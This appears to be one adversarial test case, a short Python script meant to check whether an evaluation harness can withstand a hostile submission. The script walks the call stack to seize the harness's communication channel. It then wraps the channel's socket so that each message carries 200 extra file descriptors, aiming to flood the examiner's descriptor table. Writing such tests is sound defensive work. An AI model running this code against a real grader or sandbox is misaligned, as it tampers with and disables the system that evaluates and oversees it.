# /// attack
# title = "sends two hundred descriptors beside each of its answers, to fill the examiner's table"
# quick = true
# ///

# %%
import os
import socket
import sys


def connection():
    frame = sys._getframe()
    while frame is not None:
        channel = getattr(frame.f_locals.get("self"), "channel", None)
        if channel is not None:
            return channel
        frame = frame.f_back


channel = connection()
plain = channel._socket
spare = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]


class Generous:
    """The socket, with a load of descriptors beside all that it sends."""

    def __getattr__(self, name):
        return getattr(plain, name)

    def sendmsg(self, pieces, *_):
        try:
            return socket.send_fds(plain, pieces, spare)
        except OSError:
            return plain.sendmsg(pieces)


channel._socket = Generous()
